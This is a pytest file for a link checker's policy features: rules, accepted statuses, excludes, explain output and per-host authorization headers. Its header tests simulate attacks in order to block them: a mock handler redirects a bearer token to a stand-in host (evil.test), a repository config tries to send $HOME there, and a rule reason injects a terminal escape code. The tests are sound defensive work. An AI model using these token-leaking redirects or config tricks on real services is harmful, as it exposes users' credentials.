"""The user's own policy from the outside: `[[rule]]`, `accept`, `[[headers]]`, and what adds to what."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.cli.test_run import write
from tests.conftest import Program
from tests.shared import ROOT
from tests.web import Web
from tests.web import behaviours as b

SCHEMA = json.loads((ROOT / "linkcheck/report/linkcheck-report-1.schema.json").read_text(encoding="utf-8"))
TOKEN = "s3cr3t-t0ken-of-mine"


def links_of(linkcheck: Program, *flags: str, **variables: str) -> list[dict[str, Any]]:
    done = linkcheck("run", "l.md", "--no-files", "--format", "json", *flags, **variables)
    assert done.returncode in (0, 1), done.stderr
    report = json.loads(done.stdout)
    jsonschema.validate(report, SCHEMA)
    found: list[dict[str, Any]] = report["links"]
    return found


def set_up(folder: Path, text: str, name: str = "linkcheck.toml") -> None:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")


# -- rules -------------------------------------------------------------------------------------


def test_a_rule_decides_and_its_removal_brings_the_old_verdict_back(
    web: Web, linkcheck: Program, tmp_path: Path
) -> None:
    web.on("a.test", "/", b.page())
    gone, fine = web.on("a.test", "/gone", b.answer(410)), web.on("b.test", "/", b.page())
    write(tmp_path, gone, fine)
    memory = ("--memory", str(tmp_path / "m"))
    run = ("run", "l.md", *memory)
    set_up(tmp_path, '[[rule]]\nhost = "a.test"\nstatus = 410\nto = "blocked"\nreason = "they are \\u001b[31mmoving"\n')
    done = linkcheck(*run, LINKCHECK_NO_MEMORY="false")
    assert done.returncode == 0, done.stderr
    assert "blocked[http-gone]" in done.stdout
    assert "HTTP 410; blocked by linkcheck.toml, rule 1: 'they are" in done.stdout
    assert "\x1b" not in done.stdout
    history = (tmp_path / "reports/history.jsonl").read_text(encoding="utf-8")
    assert '"dead"' in history
    assert "moving" not in history
    (tmp_path / "linkcheck.toml").unlink()
    done = linkcheck(*run, LINKCHECK_NO_MEMORY="false")
    assert (done.returncode, "dead[http-gone]" in done.stdout) == (1, True)


def test_a_rule_can_fail_a_run(web: Web, linkcheck: Program, tmp_path: Path) -> None:
    url = web.on("pirated.test", "/", b.page())
    write(tmp_path, url, "docs/nowhere.md", "ftp://a.test/x")
    set_up(
        tmp_path, '[[rule]]\nmatch = "^https://pirated"\nto = "dead"\n[[rule]]\nrule = "other-scheme"\nto = "invalid"\n'
    )
    found = links_of(linkcheck)
    assert [(one["state"], one["rule"], one["decided_by"], one["instead_of"]) for one in found] == [
        ("dead", "http-ok", "linkcheck.toml, rule 1", "ok"),
        ("dead", "missing-file", None, None),
        ("invalid", "other-scheme", "linkcheck.toml, rule 2", "skipped"),
    ]
    done = linkcheck("hook", "l.md")
    assert done.returncode == 1
    assert f"dead[http-ok] {url}: HTTP 200; dead by linkcheck.toml, rule 1" in done.stdout


def test_rules_that_contradict_each_other_are_said(web: Web, linkcheck: Program, tmp_path: Path) -> None:
    write(tmp_path, web.on("a.test", "/", b.page()))
    set_up(tmp_path, '[[rule]]\nhost = "test"\nto = "ok"\n[[rule]]\nhost = "a.test"\nto = "dead"\n')
    done = linkcheck("run", "l.md", "--no-files")
    assert done.returncode == 0
    assert done.stderr == (
        "linkcheck: linkcheck.toml, rule 2 (dead) never applies: linkcheck.toml, rule 1 (ok) comes first, "
        "and is about the same links\n"
    )


def test_a_wrong_rule_is_an_error_with_its_place(linkcheck: Program, tmp_path: Path) -> None:
    write(tmp_path, "https://a.test/")
    set_up(tmp_path, '[[rule]]\nrule = "http-gon"\nto = "ok"\n')
    done = linkcheck("run", "l.md")
    assert done.returncode == 2
    assert "linkcheck.toml, rule 1" in done.stderr
    assert "did you mean 'http-gone'?" in done.stderr


# -- accept ------------------------------------------------------------------------------------


def test_accepted_statuses(web: Web, linkcheck: Program, tmp_path: Path) -> None:
    urls = [web.on("a.test", f"/{status}", b.answer(status)) for status in (410, 500)]
    parked = web.on("p.test", "/", b.page("<title>p.test is for sale</title><p>Buy this domain", status=410))
    write(tmp_path, *urls, parked)
    set_up(tmp_path, "accept = [410]\n")
    found = links_of(linkcheck, "--accept", "500-599", "--attempts", "1")
    assert [(one["state"], one["decided_by"], one["instead_of"]) for one in found[:2]] == [
        ("ok", "linkcheck.toml, accept", "dead"),
        ("ok", "--accept", "unreachable"),
    ]
    assert linkcheck("run", "l.md", "--no-files", "--accept", "500").stderr == (
        "linkcheck: --accept adds to 1 status of linkcheck.toml\n"
    )


# -- what is left out --------------------------------------------------------------------------


def test_an_exclude_on_the_command_line_adds_and_says_so(web: Web, linkcheck: Program, tmp_path: Path) -> None:
    write(tmp_path, *(web.on(host, "/", b.page()) for host in ("a.test", "b.test", "c.test")))
    set_up(tmp_path, "exclude = ['a\\.test', 'x']\n")
    done = linkcheck("run", "l.md", "--no-files", "--format", "json", "--exclude", r"b\.test")
    assert done.stderr == "linkcheck: --exclude adds to 2 patterns of linkcheck.toml\n"
    assert [(one["state"], one["reason"]) for one in json.loads(done.stdout)["links"]] == [
        ("skipped", r"excluded by 'a\\.test' of linkcheck.toml"),
        ("skipped", r"excluded by 'b\\.test' of --exclude"),
        ("ok", "HTTP 200"),
    ]
    assert linkcheck("links", "l.md", LINKCHECK_EXCLUDE="c").stderr == (
        "linkcheck: LINKCHECK_EXCLUDE adds to 2 patterns of linkcheck.toml\n"
    )


# -- explain -----------------------------------------------------------------------------------


def test_explain_names_what_decided(web: Web, linkcheck: Program, tmp_path: Path) -> None:
    gone = web.on("a.test", "/gone", b.answer(410))
    set_up(tmp_path, 'exclude = ["b.test"]\naccept = 403\n[[rule]]\nhost = "a.test"\nto = "ok"\nreason = "so"\n')
    done = linkcheck("explain", gone)
    assert done.returncode == 0, done.stderr
    assert "  http-gone: dead (certain), HTTP 410\n" in done.stdout
    assert "Verdict: ok (certain), by rule http-gone, decided by linkcheck.toml, rule 1\n" in done.stdout
    assert "  HTTP 410; ok by linkcheck.toml, rule 1: 'so'\n" in done.stdout
    done = linkcheck("explain", web.on("c.test", "/", b.answer(403)))
    assert "by rule http-refused, decided by linkcheck.toml, accept\n" in done.stdout
    done = linkcheck("explain", "https://b.test/")
    assert "Verdict: skipped (certain), by rule excluded\n  excluded by 'b.test' of linkcheck.toml\n" in done.stdout
    assert not web.asked("b.test")


# -- headers -----------------------------------------------------------------------------------


def sent(web: Web, host: str, path: str | None = None) -> list[str | None]:
    """The value of the field in each request to `host`."""
    return [one.headers.get("authorization") for one in web.asked(host, path)]


@pytest.fixture
def config(tmp_path: Path) -> dict[str, str]:
    """The variables of a user whose own config file sends a token to api.test."""
    text = '[[headers]]\nhost = "api.test"\nsend = { Authorization = "Bearer $API_TOKEN" }\n'
    set_up(tmp_path, text, "config/linkcheck/config.toml")
    return {"XDG_CONFIG_HOME": str(tmp_path / "config"), "API_TOKEN": TOKEN}


def needs_token(then: b.Behaviour) -> b.Behaviour:
    return b.by_header("authorization", f"Bearer {TOKEN}", then, b.answer(401))


def test_a_header_is_sent_to_its_host_only(
    web: Web, linkcheck: Program, tmp_path: Path, config: dict[str, str]
) -> None:
    url = web.on("api.test", "/", needs_token(b.page()))
    write(
        tmp_path, url, web.on("other.test", "/", b.page()), "http://api.test/plain", web.on("x.api.test", "/", b.page())
    )
    web.on("api.test", "/plain", b.page())
    found = {one["url"]: one["state"] for one in links_of(linkcheck, **config)}
    assert found[url] == "ok"
    assert sent(web, "api.test", "/") == [f"Bearer {TOKEN}"]
    assert sent(web, "api.test", "/plain") == [None]  # http is in clear
    assert {one.headers.get("authorization") for one in web.log if one.host != "api.test"} == {None}


def test_a_header_ends_with_a_redirect_to_another_host(
    web: Web, linkcheck: Program, tmp_path: Path, config: dict[str, str]
) -> None:
    web.on("api.test", "/out", b.redirect(302, "https://evil.test/in"))
    web.on("evil.test", "/in", b.redirect(302, "https://api.test/back"))
    web.on("api.test", "/back", b.page("<p>" + "words " * 300))
    web.on("evil.test", "/to", b.redirect(307, "https://api.test/to"))
    web.on("api.test", "/to", b.page("<p>" + "other " * 300))
    web.on("api.test", "/here", b.redirect(301, "/there"))
    web.on("api.test", "/there", needs_token(b.page("<p>" + "third " * 300)))
    web.on("api.test", "/refresh", b.page('<meta http-equiv="refresh" content="0; url=https://evil.test/refreshed">'))
    web.on("evil.test", "/refreshed", b.page('<meta http-equiv="refresh" content="0; url=https://api.test/home">'))
    web.on("api.test", "/home", b.page("<p>" + "fourth " * 300))
    paths = ("api.test/out", "evil.test/to", "api.test/here", "api.test/refresh")
    write(tmp_path, *(f"https://{one}" for one in paths))
    links_of(linkcheck, **config)
    assert sent(web, "api.test", "/out") == [f"Bearer {TOKEN}"]
    assert {one.headers.get("authorization") for one in web.asked("evil.test")} == {None}
    assert sent(web, "api.test", "/back") == [None]
    assert sent(web, "api.test", "/to") == [None]
    assert sent(web, "api.test", "/there") == [f"Bearer {TOKEN}"]
    assert sent(web, "api.test", "/home") == [None]


def test_a_header_is_not_sent_where_the_certificate_is_wrong(
    web: Web, linkcheck: Program, tmp_path: Path, config: dict[str, str]
) -> None:
    web.tls["api.test"] = "expired"
    write(tmp_path, web.on("api.test", "/", b.page()))
    (found,) = links_of(linkcheck, **config)
    assert "insecure" in found["flags"]
    assert set(sent(web, "api.test")) == {None}


async def echo(request: b.Received, wire: b.Wire) -> None:
    """A page that repeats what it was sent, as services for debugging do."""
    value = request.headers.get("authorization", "")
    body = f"<title>You sent {value}</title><p>{value} and {TOKEN} {'words ' * 30}"
    await wire.respond(200, body.encode(), b.HTML, ("X-Echo", value), ("ETag", f'"{value}"'))


async def leak(request: b.Received, wire: b.Wire) -> None:
    """A redirect that carries what it was sent to another host."""
    token = request.headers.get("authorization", "").rpartition(" ")[2]
    await wire.respond(302, b"", ("Location", f"https://evil.test/?t={token}"))


def test_a_value_is_in_nothing_that_is_written_or_passed_on(
    web: Web, linkcheck: Program, tmp_path: Path, config: dict[str, str]
) -> None:
    write(tmp_path, web.on("api.test", "/echo", echo), web.on("api.test", "/leak", leak))
    web.on("evil.test", "/", b.page())
    command = ("run", "l.md", "--memory", str(tmp_path / "m"))
    for more in ((), ("--record", "run.warc.gz")):
        done = linkcheck(*command, *more, LINKCHECK_NO_MEMORY="false", **config)
        assert done.returncode == 0, done.stderr
        assert TOKEN not in done.stdout + done.stderr
    explained = linkcheck("explain", "https://api.test/echo", **config)
    assert "title: You sent ***" in explained.stdout
    assert TOKEN not in explained.stdout + explained.stderr
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {path.name for path in files} >= {"run.warc.gz", "l.yaml", "history.jsonl"}
    for path in files:
        data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        assert TOKEN.encode() not in data, path
    assert f"Bearer {TOKEN}" in sent(web, "api.test", "/echo")
    assert all(TOKEN not in one.target for one in web.asked("evil.test"))


def test_a_missing_variable_is_said_and_the_link_checked(
    web: Web, linkcheck: Program, tmp_path: Path, config: dict[str, str]
) -> None:
    write(tmp_path, web.on("api.test", "/", needs_token(b.page())))
    done = linkcheck("run", "l.md", "--no-files", XDG_CONFIG_HOME=config["XDG_CONFIG_HOME"])
    assert done.stderr == (
        "warning: Authorization is not sent to api.test: the variable API_TOKEN is not set (config.toml, headers 1)\n"
    )
    assert "restricted" in done.stdout


def test_a_flag_sends_one_too(web: Web, linkcheck: Program, tmp_path: Path) -> None:
    write(tmp_path, web.on("api.test", "/", needs_token(b.page())))
    done = linkcheck("hook", "l.md", "--header-env", "api.test:Authorization=Bearer MINE", MINE=TOKEN)
    assert (done.returncode, sent(web, "api.test")) == (0, [f"Bearer {TOKEN}"])


def test_a_repository_sends_none(web: Web, linkcheck: Program, tmp_path: Path) -> None:
    write(tmp_path, web.on("evil.test", "/", b.page()))
    for text in ('[[headers]]\nhost = "evil.test"\nsend = { X = "$HOME" }\n', "header_env = ['evil.test:X=HOME']\n"):
        set_up(tmp_path, text)
        done = linkcheck("run", "l.md")
        assert done.returncode == 2
        assert "a repository's file may not set" in done.stderr
    assert not web.log
